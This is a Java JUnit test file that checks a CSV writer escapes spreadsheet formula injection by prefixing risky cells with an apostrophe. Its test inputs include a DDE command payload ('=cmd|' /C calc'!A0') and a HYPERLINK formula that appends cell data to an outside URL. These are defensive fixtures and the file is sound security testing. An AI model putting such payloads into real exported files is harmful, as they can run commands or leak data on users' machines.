package dev.fanfare.demo.vote;

import java.nio.charset.StandardCharsets;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

class CsvTests {

	@ParameterizedTest
	@ValueSource(strings = { "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1+1", "\u3000=1", "＝1+1", "＋1", "－1",
			"＠x", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://example.org?\"&A1)" })
	void whatWouldRunAsAFormulaIsText(String text) {
		assertThat(csv(text)).isEqualTo("\uFEFF\"'" + text.replace("\"", "\"\"") + "\"\r\n");
	}

	@ParameterizedTest
	@ValueSource(strings = { "yes", "1 = 1", "a-b", "你好", "'quoted'", "", "C#", "a;=1", "a,=1" })
	void anythingElseStaysAsItIs(String text) {
		assertThat(csv(text)).isEqualTo("\uFEFF\"" + text + "\"\r\n");
	}

	@Test
	void numbersAreNumbersAndQuotesEndNoCell() {
		assertThat(csv("say \"=1\"", -3, 1.5)).isEqualTo("\uFEFF\"say \"\"=1\"\"\",-3,1.5\r\n");
	}

	private static String csv(Object... cells) {
		return new String(new Csv().line(cells).bytes(), StandardCharsets.UTF_8);
	}

}
